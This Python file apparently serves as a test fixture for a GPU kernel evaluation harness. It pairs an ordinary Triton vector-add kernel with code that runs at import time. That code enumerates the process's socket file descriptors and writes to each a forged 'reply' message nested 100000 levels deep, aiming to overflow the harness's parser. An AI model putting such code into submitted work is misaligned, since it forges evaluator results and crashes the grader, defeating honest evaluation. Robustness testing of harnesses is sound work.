"""Fault: writes a reply nested 100000 levels deep (a parser stack overflow) to every socket fd while imported."""

import os

import torch
import triton
import triton.language as tl

BLOCK_SIZE = 64


def _socket_fds():
    """Every fd of this process that is a socket (the protocol channel among them), found via /proc."""
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                found.append(int(name))
        except OSError:
            pass
    return found


def _forge(line):
    for fd in _socket_fds():
        try:
            os.write(fd, line.encode())
        except OSError:
            pass


_forge('{"kind": "reply", "command_id": 1, "seconds": 0.1, "value": {"a": ' + "[" * 100000 + "]" * 100000 + "}}\n")


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x + y, mask=mask)


def _launch(x, y):
    out = torch.empty_like(x)
    n_elements = out.numel()
    add_kernel[(triton.cdiv(n_elements, BLOCK_SIZE),)](x, y, out, n_elements, BLOCK_SIZE=BLOCK_SIZE)
    return out


def vector_add(x, y):
    return _launch(x, y)
